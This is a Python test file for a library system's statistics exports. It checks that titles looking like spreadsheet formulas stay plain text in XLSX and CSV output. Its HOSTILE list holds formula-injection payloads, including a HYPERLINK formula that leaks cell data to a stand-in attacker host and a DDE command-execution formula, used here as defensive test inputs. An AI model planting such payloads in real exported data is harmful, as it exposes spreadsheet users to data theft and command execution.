"""Titles that look like spreadsheet formulas reach the district's exports as plain text, never as formulas."""

from __future__ import annotations

import io

import openpyxl

from services.catalog.ingest import ingest_package
from services.circulation.clock import today
from services.reporting.exports import to_csv
from tests.circulation.conftest import check_out, register
from tests.stats.conftest import API, GONGGANG, MAGETAN

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+62 Buku",
    "-2+3",
    "@SUM(A1)",
]
ISBNS = ["9789791680479", "9789797568368", "9786020332956", "9789794035283", "979-8767-55-1", "979-731-294-1"]


async def test_formula_titles_are_text_in_the_top_titles_sheet(http, magetan, desk, district):
    lines = ["ISBN;Judul;Pengarang;Jumlah"] + [
        f'{isbn};"{title.replace(chr(34), chr(34) * 2)}";Penulis;1' for isbn, title in zip(ISBNS, HOSTILE)
    ]
    async with magetan.acquire() as conn:
        report = await ingest_package(
            conn, library=GONGGANG, data="\n".join(lines).encode(), source_name="jahat.csv", actor="test"
        )
        barcodes = [r["barcode"] for r in await conn.fetch("SELECT barcode FROM catalog.items ORDER BY barcode")]
    assert report.accepted_rows == len(HOSTILE), report.rejected
    readers = [(await register(http, desk, f"Pembaca {n}", birth_year=1990))["member_number"] for n in range(2)]
    for n, barcode in enumerate(barcodes):
        assert (await check_out(http, desk, barcode, readers[n % 2])).status_code == 201
    day = today().isoformat()

    sheet = await http.get(
        f"{API}/stats/export",
        headers=district,
        params={"scope": f"kabupaten:{MAGETAN}", "from": day, "to": day, "breakdown": "top_titles", "format": "xlsx"},
    )

    assert sheet.status_code == 200, sheet.text
    rows = list(openpyxl.load_workbook(io.BytesIO(sheet.content))["Rincian Judul terpopuler"].iter_rows())
    column = [cell.value for cell in rows[0]].index("Judul")
    titles = {row[column].value: row[column].data_type for row in rows[1:]}
    assert set(titles) == set(HOSTILE) and set(titles.values()) == {"s"}, titles


def test_formula_like_cells_start_with_an_apostrophe_in_csv():
    content = to_csv(["Judul", "Jumlah"], [["=1+1", 3], ["@SUM(A1)", -2], ["\tx", None], ["Biasa", 1]])
    assert content.decode("utf-8-sig").splitlines() == ["Judul;Jumlah", "'=1+1;3", "'@SUM(A1);-2", "'\tx;", "Biasa;1"]
